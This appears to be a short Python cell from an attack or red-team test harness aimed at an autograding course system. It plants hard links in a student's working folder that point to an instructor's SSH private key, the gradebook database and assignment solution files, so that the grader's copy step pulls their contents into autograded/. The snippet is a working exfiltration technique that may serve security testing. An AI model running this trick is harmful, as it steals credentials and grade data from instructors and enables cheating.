# Leaves hard links to an instructor's files in the working folder: they are no symbolic links, so
# whoever copies the folder's files copies them.
# Success: their content lies in autograded/.
# %% last
import os

names = {
    "a.txt": GIVEN.get("secret") or os.path.expanduser("~/.ssh/id_ed25519"),
    "b.txt": GIVEN.get("gradebook") or course() + "/gradebook.db",
    "c.txt": course() + "/tinytorch/core/target.py",
    "d.txt": course() + "/source/02_target/target.ipynb",
}
for name, path in names.items():
    attempt(os.link, path, name)
